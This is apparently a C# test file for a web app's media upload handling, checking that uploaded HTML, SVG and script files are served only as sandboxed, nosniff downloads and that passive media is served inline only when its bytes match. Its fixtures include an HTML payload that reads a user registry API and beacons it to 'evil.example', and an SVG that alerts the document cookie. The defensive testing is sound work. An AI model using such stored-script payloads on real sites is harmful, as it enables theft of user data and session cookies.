using System.Net;
using System.Text;
using Sanxiang.Web.Tests.Infrastructure;

namespace Sanxiang.Web.Tests;

/// <summary>
/// Issue 15: an uploaded file never runs as active content on the app's origin. Only passive media whose first bytes
/// agree with the declared type is served as that type; everything else is a download, and every file response is
/// nosniff and sandboxed.
/// </summary>
public sealed class MediaActiveContentTests(NoTwoFactorFactory app) : IClassFixture<NoTwoFactorFactory>
{
    private static readonly byte[] Html = Encoding.UTF8.GetBytes("<!doctype html><html><body><script>fetch('/api/registry/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></body></html>");
    private static readonly byte[] Svg = Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\"><script>alert(1)</script></svg>");
    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0];

    [Theory]
    [InlineData("text/html", "page.html")]
    [InlineData("image/svg+xml", "page.svg")]
    [InlineData("application/xhtml+xml", "page.xhtml")]
    [InlineData("text/javascript", "x.js")]
    [InlineData("video/mp4", "looks-like-a-video.mp4")]
    [InlineData("image/png", "fake.png")]
    [InlineData("", "nothing-declared")]
    public async Task AnActiveUpload_IsServedOnlyAsADownload_NeverAsItsDeclaredType(string declared, string fileName)
    {
        var officer = await ClientAsync();
        var bytes = fileName.EndsWith(".svg", StringComparison.Ordinal) ? Svg : Html;
        var item = await Tus.UploadAsync(officer, bytes, new Dictionary<string, string> { ["filename"] = fileName, ["filetype"] = declared });

        foreach (var url in new[] { $"/api/media/{item}/content", $"/api/media/{item}/content?download=true" })
        {
            using var r = await officer.GetAsync(url);
            r.StatusCode.ShouldBe(HttpStatusCode.OK);
            r.Content.Headers.ContentType!.MediaType.ShouldBe("application/octet-stream");
            r.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
            r.Headers.GetValues("X-Content-Type-Options").Single().ShouldBe("nosniff");
            r.Headers.GetValues("Content-Security-Policy").Single().ShouldBe("sandbox");
            (await r.Content.ReadAsByteArrayAsync()).ShouldBe(bytes);
        }
    }

    [Fact]
    public async Task PassiveMediaWhoseBytesAgree_IsServedInlineAsItsType_StillSandboxed()
    {
        var officer = await ClientAsync();
        var item = await Tus.UploadAsync(officer, Png, new Dictionary<string, string> { ["filename"] = "现场照片.png", ["filetype"] = "image/png" });
        using var r = await officer.GetAsync($"/api/media/{item}/content");
        r.Content.Headers.ContentType!.MediaType.ShouldBe("image/png");
        r.Content.Headers.ContentDisposition.ShouldBeNull();
        r.Headers.GetValues("X-Content-Type-Options").Single().ShouldBe("nosniff");
        r.Headers.GetValues("Content-Security-Policy").Single().ShouldBe("sandbox");

        using var ranged = new HttpRequestMessage(HttpMethod.Get, $"/api/media/{item}/content");
        ranged.Headers.Range = new System.Net.Http.Headers.RangeHeaderValue(8, 15);
        using var partial = await officer.SendAsync(ranged);
        partial.StatusCode.ShouldBe(HttpStatusCode.PartialContent);
        partial.Content.Headers.ContentType!.MediaType.ShouldBe("image/png");
        (await partial.Content.ReadAsByteArrayAsync()).ShouldBe(Png[8..16]);
    }

    [Theory]
    [InlineData("video/mp4", "00000020667479706973736F6D", "video/mp4")]
    [InlineData("VIDEO/MP4; codecs=avc1", "00000020667479706973736F6D", "video/mp4")]
    [InlineData("video/webm", "1A45DFA3", "video/webm")]
    [InlineData("audio/mpeg", "494433", "audio/mpeg")]
    [InlineData("audio/wav", "52494646000000005741564566", "audio/wav")]
    [InlineData("image/jpeg", "FFD8FFE0", "image/jpeg")]
    [InlineData("image/webp", "524946460000000057454250", "image/webp")]
    [InlineData("application/pdf", "255044462D312E37", "application/pdf")]
    [InlineData("application/pdf", "3C68746D6C3E", null)]
    [InlineData("image/jpeg", "89504E470D0A1A0A", null)]
    [InlineData("text/html", "3C68746D6C3E", null)]
    [InlineData("image/svg+xml", "3C737667", null)]
    [InlineData("video/mp4", "", null)]
    public void ServedType_IsTheDeclaredTypeOnlyForPassiveMediaWithAgreeingBytes(string declared, string headHex, string? expected) =>
        Sanxiang.Media.Features.PassiveMedia.ServedType(declared, Convert.FromHexString(headHex)).ShouldBe(expected);

    private async Task<HttpClient> ClientAsync() => await (await app.SignedInAsync("officer.market")).WithAntiforgeryHeaderAsync();
}
